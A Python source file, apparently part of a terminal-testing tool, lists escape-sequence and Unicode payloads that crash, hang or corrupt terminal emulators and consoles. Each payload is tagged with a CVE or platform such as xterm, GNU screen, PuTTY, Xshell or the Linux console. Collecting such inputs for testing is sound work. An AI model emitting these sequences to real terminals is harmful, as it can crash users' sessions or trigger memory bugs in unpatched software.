"""Attacks on the terminal itself."""

from __future__ import annotations

from typing import Final

from .base import BEL, CSI, DCS, DEC, LINUX, OSC, ST, XTERM, Attack

BREAKS: Final = (
    Attack("overruns a buffer with combining marks", "a" + "\u0300" * 300, "CVE-2021-27135 (xterm)"),
    Attack(
        "overruns a buffer with combining marks, screen",
        "e\u0301" + "\u0900\u0489" * 200,
        "CVE-2021-26937 (GNU screen)",
    ),
    Attack("overruns a buffer with a picture", f"{DCS}q#1;2;99;99;99!9999999@{ST}", "CVE-2022-24130 (xterm, sixel)"),
    Attack("overruns a buffer, screen", f"{OSC}49;rgb:ff{BEL}", "CVE-2020-9366 (GNU screen)"),
    Attack("repeats a blank for ever", f"{CSI}2147483647@", "CVE-2011-2198 (VTE)"),
    Attack("repeats a line for ever", f"{CSI}2147483647L", "CVE-2012-2738 (VTE)"),
    Attack("writes outside of the screen, QEMU", f"{CSI}31337;31337H", "CVE-2012-3515 (QEMU)"),
    Attack("resizes the window to nothing", f"{CSI}8;0;0t", "CVE-2000-0476 (xterm, Eterm, rxvt)"),
    Attack("resizes the window beyond numbers", f"{CSI}8;65536;65536t", "CVE-2009-1717 (Apple Terminal)"),
    Attack("loops over a broken key definition", f"{DCS}0;0|0/{ST}", "CVE-2003-0079 (hanterm)"),
    Attack("changes the title without end, MobaXterm", f"{OSC}2;{'x' * 400}{BEL}" * 3, "CVE-2021-28847 (MobaXterm)"),
    Attack("changes the title without end, mintty", f"{OSC}2;{'y' * 400}{BEL}" * 3, "CVE-2021-28848 (mintty)"),
    Attack("changes the title without end, ZOC", f"{OSC}0;{'z' * 400}{BEL}" * 3, "CVE-2021-32198 (ZOC)"),
    Attack("changes the title without end, PuTTY", f"{OSC}0;{'p' * 400}{ST}" * 3, "CVE-2021-33500 (PuTTY)"),
    Attack("changes the title without end, Xshell", f"{OSC}1;{'s' * 400}{ST}" * 3, "CVE-2021-37326 (Xshell)"),
    Attack("changes the title without end, Xshell again", f"{OSC}2;{'t' * 400}\x9c" * 3, "CVE-2021-42095 (Xshell)"),
    Attack(
        "stops the console of OpenBSD",
        f"{CSI}1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17m",
        "CVE-2023-40216 (OpenBSD wscons)",
    ),
    Attack("draws huge letters", f"{DCS}0;1;0pS(A[0,0][9999999,9999999]){ST}", XTERM),
    Attack("draws a rectangle of letters", f"{CSI}65;1;1;9999;9999$x", DEC),
    Attack("sets a margin that leaves nothing", f"{CSI}2;1r", DEC),
    Attack("rings for ever", BEL * 200, LINUX),
    Attack("sets the length of the bell", f"{CSI}10;30000]{CSI}11;60000]{BEL}", LINUX),
    Attack("plays music", f"{CSI}MFT120L4CDEFGAB\x0e", "BBS, ANSI music"),
    Attack("switches to the twelfth console", f"{CSI}12;12]", LINUX),
    Attack("blanks the screen at once", f"{CSI}9;1]", LINUX),
    Attack("sets the palette, Linux", f"{OSC}P0ffffff", LINUX),
    Attack("turns the light of the keyboard on", f"{CSI}1q", LINUX),
    Attack("sets 132 columns", f"{CSI}?3h", DEC),
)
